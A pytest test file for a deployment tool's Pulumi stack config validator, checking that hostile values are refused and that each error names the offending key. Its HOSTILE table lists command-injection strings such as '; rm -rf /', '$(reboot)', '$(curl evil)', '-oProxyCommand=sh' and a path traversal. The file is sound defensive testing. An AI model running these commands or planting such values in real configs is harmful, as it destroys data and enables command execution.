"""Stack config validation: valid example stacks, and hostile values refused with the key named."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from artifact_cd import catalog
from artifact_cd.config import (
    PROJECT,
    ConfigError,
    describe_commit_problem,
    load_stack,
    parse_stack_config,
    read_stack_file,
)

ROOT = Path(__file__).resolve().parents[2]
SHA = "0123456789abcdef0123456789abcdef01234567"
DELETE = object()


def base(stack: str) -> dict[str, Any]:
    return read_stack_file(ROOT / f"Pulumi.{stack}.yaml")


def mutate(raw: dict[str, Any], path: str, value: object) -> dict[str, Any]:
    out = copy.deepcopy(raw)
    parts = path.split(".")
    node = out
    for part in parts[:-1]:
        node = node.setdefault(part, {})
    if value is DELETE:
        node.pop(parts[-1], None)
    else:
        node[parts[-1]] = value
    return out


@pytest.mark.parametrize("stack", catalog.ENVS)
def test_example_stacks_are_valid_and_cover_every_service_of_their_env(stack: str) -> None:
    cfg = load_stack(ROOT, stack)
    assert cfg.env == stack
    offered = set()
    for e in catalog.services_for(cfg.env):
        target = e.target(cfg.env)
        if target is not None and target.gate != catalog.Gate.UNSUPPORTED:
            offered.add(e.id)
    assert set(cfg.services) == offered
    for svc in cfg.services.values():
        assert describe_commit_problem(svc.commit) is None


def test_defaults_are_the_r1_paths() -> None:
    cfg = parse_stack_config({"env": "prod", "hosts": {"d601": {"host": "d601"}, "master": {"host": "m"}}}, "prod")
    reg = cfg.registry
    assert reg.unit_name == "unidesk-artifact-registry.service"
    assert reg.compose_project == reg.container_name == "unidesk-artifact-registry"
    assert reg.image == "registry:2.8.3"
    assert reg.config_path == "/home/ubuntu/.unidesk/artifact-registry/config.yml"
    assert reg.compose_path == "/home/ubuntu/.unidesk/artifact-registry/compose.yml"
    assert reg.storage_path == "/home/ubuntu/.unidesk/registry-storage"
    assert reg.endpoint == "127.0.0.1:5000"
    assert cfg.hosts.d601.user == "ubuntu" and cfg.hosts.d601.port == 22


def test_digest_pinned_registry_image_is_accepted() -> None:
    raw = mutate(base("prod"), "registry.image", "registry:2.8.3@sha256:" + "a" * 64)
    assert parse_stack_config(raw, "prod").registry.image.endswith("a" * 64)


def test_matching_approval_is_accepted() -> None:
    raw = mutate(base("prod"), "approvals.code-queue-mgr", {"commit": SHA, "by": "supervisor", "reason": "ok"})
    assert parse_stack_config(raw, "prod").approvals["code-queue-mgr"].by == "supervisor"


C = "services.backend-core.commit"

# (stack, key path to set, hostile value, key the message must name)
HOSTILE: list[tuple[str, str, object, str]] = [
    # commits (R11, R25): short, uppercase, tags, whitespace, metacharacters, wrong types
    ("prod", C, "abc1234", C),
    ("prod", C, SHA.upper(), C),
    ("prod", C, "latest", C),
    ("prod", C, "v1.2.3", C),
    ("prod", C, "main", C),
    ("prod", C, "HEAD", C),
    ("prod", C, "refs/heads/main", C),
    ("prod", C, "", C),
    ("prod", C, " " + SHA, C),
    ("prod", C, SHA + "\n", C),
    ("prod", C, SHA + "; rm -rf /", C),
    ("prod", C, "$(reboot)", C),
    ("prod", C, "`id`", C),
    ("prod", C, SHA[:39] + "g", C),
    ("prod", C, SHA + "0", C),
    ("prod", C, "sha256:" + "a" * 64, C),
    ("prod", C, 1234567890123456789012345678901234567890, C),
    ("prod", C, True, C),
    ("prod", C, None, C),
    ("prod", C, [SHA], C),
    ("prod", C, SHA[:20] + "|" + SHA[21:], C),
    ("prod", "services.backend-core", {"commit": SHA, "tag": "latest"}, "services.backend-core.tag"),
    ("prod", "services.backend-core", DELETE, "(none)"),  # removing a service is fine: sentinel row
    # services the env does not offer, unknown services
    ("prod", "services.no-such-service", {"commit": SHA}, "services.no-such-service"),
    ("dev", "services.project-manager", {"commit": SHA}, "services.project-manager"),
    ("dev", "services.code-queue-mgr", {"commit": SHA}, "services.code-queue-mgr"),
    ("prod", "services.Backend-Core", {"commit": SHA}, "services.Backend-Core"),
    # env
    ("prod", "env", "staging", "env"),
    ("dev", "env", "prod", "env"),
    ("prod", "env", "", "env"),
    # hosts
    ("prod", "hosts.d601.host", "d601;rm -rf /", "hosts.d601.host"),
    ("prod", "hosts.d601.host", "$(curl evil)", "hosts.d601.host"),
    ("prod", "hosts.d601.host", "-oProxyCommand=sh", "hosts.d601.host"),
    ("prod", "hosts.master.host", "a b", "hosts.master.host"),
    ("prod", "hosts.master.host", "", "hosts.master.host"),
    ("prod", "hosts.d601.user", "root;id", "hosts.d601.user"),
    ("prod", "hosts.d601.user", "-lroot", "hosts.d601.user"),
    ("prod", "hosts.d601.port", 0, "hosts.d601.port"),
    ("prod", "hosts.d601.port", 70000, "hosts.d601.port"),
    ("prod", "hosts.d601.port", "22", "hosts.d601.port"),
    ("prod", "hosts.d601.port", 22.5, "hosts.d601.port"),
    ("prod", "hosts.master", DELETE, "hosts.master"),
    ("prod", "hosts.d601.privateKey", "-----BEGIN OPENSSH PRIVATE KEY-----", "hosts.d601.privateKey"),
    # registry (R1, R2)
    ("prod", "registry.endpoint", "0.0.0.0:5000", "registry.endpoint"),
    ("prod", "registry.endpoint", "d601.unidesk.internal:5000", "registry.endpoint"),
    ("prod", "registry.endpoint", "127.0.0.1:99999", "registry.endpoint"),
    ("prod", "registry.endpoint", "127.0.0.1", "registry.endpoint"),
    ("prod", "registry.image", "registry:latest", "registry.image"),
    ("prod", "registry.image", "registry", "registry.image"),
    ("prod", "registry.image", "registry:2.8.3;id", "registry.image"),
    ("prod", "registry.storagePath", "relative/storage", "registry.storagePath"),
    ("prod", "registry.storagePath", "/home/../etc", "registry.storagePath"),
    ("prod", "registry.storagePath", "/srv/registry storage", "registry.storagePath"),
    ("prod", "registry.storagePath", "/srv/$(id)", "registry.storagePath"),
    ("prod", "registry.storagePath", "/", "registry.storagePath"),
    ("prod", "registry.configPath", "/home/ubuntu/.unidesk/registry-storage/config.yml", "registry"),
    ("prod", "registry.unitName", "registry.timer", "registry.unitName"),
    ("prod", "registry.unitName", "a;b.service", "registry.unitName"),
    ("prod", "registry.composeCommand", "docker compose", "registry.composeCommand"),
    ("prod", "registry.composeCommand", "/usr/bin/docker compose; id", "registry.composeCommand"),
    ("prod", "registry.manage", "yes please", "registry.manage"),
    # compose projects
    ("prod", "compose.master.projectDir", "~/unidesk", "compose.master.projectDir"),
    ("prod", "compose.master.projectName", "Unidesk Prod", "compose.master.projectName"),
    ("prod", "compose.master.envFile", "/home/ubuntu/unidesk/.env\n", "compose.master.envFile"),
    ("prod", "compose.master", DELETE, "compose.master"),
    ("prod", "compose.d601", DELETE, "compose.d601"),
    ("prod", "compose.master.healthTimeoutSeconds", 1, "compose.master.healthTimeoutSeconds"),
    ("prod", "compose.master.healthTimeoutSeconds", "45s", "compose.master.healthTimeoutSeconds"),
    # transfer and k3s
    ("prod", "transfer.mode", "rsync", "transfer.mode"),
    ("prod", "transfer.d601SshTarget", "-oProxyCommand=sh", "transfer.d601SshTarget"),
    ("prod", "transfer.d601SshTarget", "ubuntu@d601;id", "transfer.d601SshTarget"),
    ("prod", "k3s.rolloutTimeoutSeconds", 5, "k3s.rolloutTimeoutSeconds"),
    ("prod", "k3s.rolloutTimeoutSeconds", "180", "k3s.rolloutTimeoutSeconds"),
    ("prod", "k3s.containerdNamespace", "K8S.IO", "k3s.containerdNamespace"),
    ("prod", "k3s.containerdSocket", "run/k3s.sock", "k3s.containerdSocket"),
    # approvals (R20)
    ("prod", "approvals.code-queue-mgr", {"commit": "abc", "by": "sup", "reason": "r"}, "approvals.code-queue-mgr.commit"),
    ("prod", "approvals.code-queue-mgr", {"commit": SHA, "by": "a b", "reason": "r"}, "approvals.code-queue-mgr.by"),
    ("prod", "approvals.code-queue-mgr", {"commit": SHA, "by": "$(id)", "reason": "r"}, "approvals.code-queue-mgr.by"),
    ("prod", "approvals.code-queue-mgr", {"commit": SHA, "by": "s", "reason": "a\nb"}, "approvals.code-queue-mgr.reason"),
    ("prod", "approvals.code-queue-mgr", {"commit": SHA, "by": "s"}, "approvals.code-queue-mgr.reason"),
    ("prod", "approvals.backend-core", {"commit": SHA, "by": "s", "reason": "r"}, "approvals.backend-core"),
    ("prod", "approvals.nope", {"commit": SHA, "by": "s", "reason": "r"}, "approvals.nope"),
    # unknown top-level keys
    ("prod", "servics", {}, "servics"),
    ("prod", "sshPassword", "hunter2", "sshPassword"),
]
HOSTILE = [h for h in HOSTILE if h[3] != "(none)"]


def test_at_least_forty_hostile_values() -> None:
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize(("stack", "path", "value", "key"), HOSTILE, ids=[f"{h[1]}={h[2]!r}"[:70] for h in HOSTILE])
def test_hostile_value_is_refused_naming_the_key(stack: str, path: str, value: object, key: str) -> None:
    raw = mutate(base(stack), path, value)
    with pytest.raises(ConfigError) as info:
        parse_stack_config(raw, stack)
    message = str(info.value)
    assert f"{PROJECT}:{key}" in message
    assert "Fix:" in message
    # the refusal never echoes a multi-line or metacharacter payload unescaped
    assert "\n" not in "".join(p.message for p in info.value.problems)


def test_secret_looking_keys_point_at_encrypted_config() -> None:
    raw = mutate(base("prod"), "hosts.d601.privateKey", "-----BEGIN OPENSSH PRIVATE KEY-----")
    with pytest.raises(ConfigError) as info:
        parse_stack_config(raw, "prod")
    assert "pulumi config set --secret" in str(info.value)
    assert "BEGIN OPENSSH" not in str(info.value)


def test_commit_fix_names_the_set_command() -> None:
    raw = mutate(base("prod"), C, "abc1234")
    with pytest.raises(ConfigError) as info:
        parse_stack_config(raw, "prod")
    (problem,) = info.value.problems
    assert problem.key == C
    assert "short sha" in problem.message
    assert problem.fix.startswith(f"pulumi config set --path '{C}'")


def test_every_problem_is_reported_at_once() -> None:
    raw = mutate(mutate(base("prod"), C, "latest"), "hosts.d601.port", 0)
    with pytest.raises(ConfigError) as info:
        parse_stack_config(raw, "prod")
    assert {p.key for p in info.value.problems} == {C, "hosts.d601.port"}


def test_wrong_stack_name() -> None:
    with pytest.raises(ConfigError, match="not an environment"):
        parse_stack_config(base("prod"), "staging")


def test_plaintext_secret_in_stack_file_is_refused(tmp_path: Path) -> None:
    text = (ROOT / "Pulumi.prod.yaml").read_text() + "  unidesk-artifact-cd:d601PrivateKey: plain-text-key\n"
    (tmp_path / "Pulumi.prod.yaml").write_text(text)
    with pytest.raises(ConfigError) as info:
        load_stack(tmp_path, "prod")
    assert f"{PROJECT}:d601PrivateKey" in str(info.value)
    assert "plain-text-key" not in str(info.value)


def test_encrypted_secret_in_stack_file_is_accepted(tmp_path: Path) -> None:
    text = (ROOT / "Pulumi.prod.yaml").read_text() + "  unidesk-artifact-cd:d601PrivateKey:\n    secure: v1:abc\n"
    (tmp_path / "Pulumi.prod.yaml").write_text(text)
    assert load_stack(tmp_path, "prod").env == "prod"


def test_missing_and_broken_stack_files(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="does not exist"):
        load_stack(tmp_path, "dev")
    (tmp_path / "Pulumi.dev.yaml").write_text("config: [unclosed\n")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_stack(tmp_path, "dev")


def test_other_namespaces_are_ignored() -> None:
    raw = read_stack_file(ROOT / "Pulumi.dev.yaml")
    assert all(":" not in k for k in raw)


@pytest.mark.parametrize(
    ("value", "fragment"),
    [
        ("abc1234", "short sha"),
        (SHA.upper(), "uppercase"),
        ("latest", "mutable tag"),
        ("", "empty"),
        (SHA + "\n", "whitespace"),
        ("x; rm -rf /", "not a commit sha"),
        (123, "quoted string"),
        (SHA + "00", "exactly 40"),
    ],
)
def test_commit_problem_wording(value: object, fragment: str) -> None:
    problem = describe_commit_problem(value)
    assert problem is not None and fragment in problem


def test_valid_commit_has_no_problem() -> None:
    assert describe_commit_problem(SHA) is None
